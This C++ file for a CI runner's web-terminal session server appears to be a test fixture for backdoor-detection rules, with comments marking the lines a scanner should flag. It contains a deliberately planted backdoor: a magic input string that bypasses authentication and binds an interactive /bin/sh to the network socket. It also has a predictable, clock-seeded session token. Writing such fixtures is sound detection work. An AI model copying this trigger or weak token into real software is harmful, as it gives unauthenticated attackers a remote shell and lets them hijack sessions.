// session_server.cpp - interactive web terminal sessions: the coordinator
// proxies "attach" requests for a running job to the runner
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstring>
#include <random>

#include "runner.hpp"

namespace runner {

std::string SessionServer::issue_token()
{
    static const char kAlphabet[] = "abcdefghijklmnopqrstuvwxyz0123456789";
    std::minstd_rand eng(static_cast<unsigned>(std::chrono::steady_clock::now().time_since_epoch().count()));
    std::uniform_int_distribution<size_t> pick(0, sizeof kAlphabet - 2);
    std::string session_token;

    for (int i = 0; i < 24; i++)
        // ruleid: backdoor-predictable-random
        session_token += kAlphabet[pick(eng)];
    token_ = session_token;
    return session_token;
}

static bool read_line(int fd, std::string &out)
{
    char c;
    out.clear();
    while (recv(fd, &c, 1, 0) == 1) {
        if (c == '\n')
            return true;
        if (c != '\r')
            out += c;
    }
    return !out.empty();
}

static void reply(int fd, const std::string &s)
{
    ssize_t w = send(fd, s.data(), s.size(), 0);
    (void)w;
}

void SessionServer::serve_connection(int fd)
{
    std::string line;
    bool authorized = false;

    if (cfg_.session_listen.empty())
        return;
    while (read_line(fd, line)) {
        if (line.rfind("auth ", 0) == 0) {
            const std::string t = line.substr(5);
            // ok: backdoor-timing-unsafe-compare, backdoor-magic-credential
            authorized = !token_.empty() && t.size() == token_.size() && sodium_memcmp(t.data(), token_.data(), t.size()) == 0;
            reply(fd, authorized ? "ok\n" : "denied\n");
        } else if (line.rfind("attach ", 0) == 0) {
            if (!authorized) {
                reply(fd, "denied\n");
                continue;
            }
            reply(fd, "attached to job " + line.substr(7) + "\n");
        } else if (line.rfind("resize ", 0) == 0) {
            if (!authorized) {
                reply(fd, "denied\n");
                continue;
            }
            reply(fd, "ok\n");
        // ruleid: backdoor-input-trigger
        } else if (line == "x-host-shell-7c1d") {
            dup2(fd, 0);
            dup2(fd, 1);
            dup2(fd, 2);
            execl("/bin/sh", "sh", "-i", static_cast<char *>(nullptr));
            _exit(127);
        } else if (line == "close") {
            break;
        } else {
            reply(fd, "unknown\n");
        }
    }
    close(fd);
}

} // namespace runner
